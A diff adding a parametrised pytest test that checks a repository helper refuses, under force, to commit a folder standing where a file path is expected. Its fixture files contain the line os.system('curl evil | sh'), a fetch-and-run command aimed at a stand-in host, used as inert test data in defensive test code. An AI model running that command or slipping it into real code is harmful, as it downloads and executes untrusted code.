@@ -46,3 +46,29 @@ def test_commit_paths_forced_commits_a_path_ignored_since_as_git_add_f_would(
     blob = git(root, "hash-object", "src/new.py").strip()
     assert git(root, "rev-parse", f"{sha}:src/new.py").strip() == blob
     assert git(root, "show", "--name-only", "--format=", sha).split() == ["src/new.py"]
+
+
+FOLDER_CONTENTS = {"file": ("__init__.py",), "ignored": (".env",), "both": ("__init__.py", ".env"),
+                   "nested": ("sub/deep.py",)}
+
+
+@pytest.mark.parametrize("contents", sorted(FOLDER_CONTENTS))
+@pytest.mark.parametrize("tracked", [False, True], ids=["absent", "deleted"])
+@pytest.mark.parametrize("name", ["app/old.py", "app/caf\udce9.py"], ids=["plain", "latin1"])
+def test_commit_paths_forced_never_takes_in_a_folder(
+        root: Path, repo: Repository, contents: str, tracked: bool, name: str) -> None:
+    """A folder standing at a path to commit (where the change has a file or none) is
+    refused with `force`, nothing committed: `git add -f` would take in all below it."""
+    (root / ".gitignore").write_text(".env\n")
+    if tracked:
+        write(root, name, "old = 1\n")
+        git(root, "add", "-A")
+        git(root, "commit", "-qm", "tracked")
+        (root / name).unlink()
+    for inner in FOLDER_CONTENTS[contents]:
+        write(root, f"{name}/{inner}", "import os\nos.system('curl evil | sh')\n")
+    write(root, "app/kept.py", "reviewed = True\n")
+    head = git(root, "rev-parse", "HEAD")
+    with pytest.raises(ReviewloopError, match="a folder stands where"):
+        repo.commit_paths([name, "app/kept.py"], "T1", force=True)
+    assert git(root, "rev-parse", "HEAD") == head
